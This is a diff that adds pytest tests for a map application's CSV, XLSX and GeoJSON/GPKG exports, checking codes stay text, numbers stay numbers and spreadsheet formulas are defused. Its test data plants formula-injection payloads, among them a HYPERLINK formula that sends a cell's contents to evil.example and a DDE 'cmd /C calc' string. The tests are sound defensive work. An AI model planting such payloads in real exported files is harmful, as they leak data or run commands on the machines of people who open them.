@@ -1,0 +1,116 @@
+"""Data files of the view: CSV and XLSX round trips (codes text, numbers numbers, formulas defused), GeoJSON/GPKG."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+from dataclasses import replace
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pyogrio
+import pytest
+
+from app.export import datafiles
+from app.mapbuild import legend_entries, shown_table
+from app.viewstate import ViewState
+from geodata import load_boundaries
+from tests.export_support import boundaries, data_for
+
+CRAFTED = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def crafted_view():
+    """The default county view with hostile strings planted in a name and a category-like text cell."""
+    data = data_for(ViewState(vmin=3000))
+    table = data.table.copy()
+    table.loc[0, "name"] = CRAFTED
+    table.loc[1, "name"] = "+cmd|' /C calc'!A0"
+    table.loc[2, "name"] = "\tTabbed"
+    return replace(data, table=table)
+
+
+def test_csv_has_a_bom_keeps_codes_as_text_numbers_as_numbers_and_defuses_formulas():
+    data = crafted_view()
+    raw = datafiles.csv_bytes(data)
+    assert raw.startswith(b"\xef\xbb\xbf")
+    back = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    expected = shown_table(data)
+    assert list(back["adcode"]) == list(expected["adcode"])  # as written, all six digits
+    assert back.loc[0, "名称"] == "'" + CRAFTED
+    assert back.loc[1, "名称"].startswith("'+")
+    assert back.loc[2, "名称"] == "'\tTabbed"
+    assert back.loc[3, "名称"] == expected.loc[3, "名称"]  # ordinary names untouched
+    value_col = next(c for c in back.columns if c.startswith("每个乡镇"))
+    numbers = pd.to_numeric(back[value_col])
+    np.testing.assert_allclose(numbers, data.table["value"].astype(float))
+    assert not any(v.startswith("'") for v in back[value_col])
+
+
+def test_csv_carries_the_screen_class_and_colour_of_each_region():
+    data = data_for(ViewState(level="prefecture", vmax=10000))
+    back = pd.read_csv(io.BytesIO(datafiles.csv_bytes(data)), encoding="utf-8-sig", dtype=str)
+    assert list(back["颜色"]) == list(data.table["colour"])
+    filtered = data.table["status"] == "filtered"
+    assert filtered.any()
+    legend = {colour: label for colour, label, _ in legend_entries(data)}
+    shown = (data.table["status"] == "shown").to_numpy()
+    assert list(back.loc[shown, "分级"]) == [legend[c] for c in data.table.loc[shown, "colour"]]
+    assert back["不在所选范围"].eq("True").sum() == int(filtered.sum())
+
+
+def test_xlsx_round_trip_data_and_metadata_sheets():
+    data = crafted_view()
+    wb = openpyxl.load_workbook(io.BytesIO(datafiles.xlsx_bytes(data, dt.date(2026, 11, 29))))
+    assert wb.sheetnames == ["数据", "说明"]
+    sheet = wb["数据"]
+    header = [c.value for c in sheet[1]]
+    code_col = header.index("adcode")
+    value_col = next(i for i, h in enumerate(header) if h.startswith("每个乡镇"))
+    rows = list(sheet.iter_rows(min_row=2))
+    assert len(rows) == 183
+    for row in rows:
+        assert row[code_col].data_type == "s" and len(row[code_col].value) == 6  # text, never a number
+        assert row[value_col].data_type == "n"  # a number, never text
+    name = rows[0][header.index("名称")]
+    assert name.data_type == "s" and name.value == "'" + CRAFTED  # text, not a live formula
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    meta = {r[0].value: r[1].value for r in wb["说明"].iter_rows(min_row=2)}
+    for key in ("标题", "单位", "年份", "来源", "分级方法", "分级断点", "导出日期"):
+        assert meta.get(key), key
+    assert meta["标题"] == data.layer.title("zh")
+    assert meta["单位"] == "人/乡镇" and meta["导出日期"] == "2026-11-29"
+    assert meta["分级方法"] == "quantiles, k=5"
+    assert meta["视图参数"] == "min=3000"
+    assert meta["数值范围"] == "3000 –"
+
+
+def test_xlsx_in_english_names_its_sheets_in_english():
+    wb = openpyxl.load_workbook(io.BytesIO(datafiles.xlsx_bytes(data_for(ViewState(lang="en", level="prefecture")))))
+    assert wb.sheetnames == ["data", "metadata"]
+    assert [c.value for c in wb["data"][1]][:2] == ["Name", "adcode"]
+
+
+@pytest.mark.parametrize("fmt", ["geojson", "gpkg"])
+def test_geodata_round_trip_in_wgs84_and_gcj02(fmt):
+    data = data_for(ViewState(level="county", area="513400"))
+    wgs = pyogrio.read_dataframe(io.BytesIO(datafiles.geo_bytes(boundaries("county"), data, fmt)))
+    assert wgs.crs.to_epsg() == 4326
+    assert list(wgs["adcode"]) == list(data.table["adcode"])  # 17 Liangshan counties, codes as text
+    assert pd.api.types.is_string_dtype(wgs["adcode"])
+    np.testing.assert_allclose(wgs["value"].astype(float), data.table["value"].astype(float), rtol=1e-9)
+    assert list(wgs["colour"]) == list(data.table["colour"])
+    assert "人口普查" in wgs["source"].iloc[0]
+    gcj_shapes = load_boundaries("county", detail="web", datum="gcj02")
+    gcj = pyogrio.read_dataframe(io.BytesIO(datafiles.geo_bytes(gcj_shapes, data, fmt)))
+    # GCJ-02 is offset from WGS84 by a few hundred metres (here about 0.002° east, 0.003° south).
+    shift = gcj.total_bounds - wgs.total_bounds
+    assert all(0.0005 < abs(d) < 0.01 for d in shift), shift
+
+
+def test_neutralise_leaves_numbers_and_plain_text_alone():
+    assert datafiles.neutralise(-5.0) == -5.0
+    assert datafiles.neutralise("成都市") == "成都市"
+    assert datafiles.neutralise("@SUM(A1)") == "'@SUM(A1)"
+    assert datafiles.neutralise("\r=1") == "'\r=1"
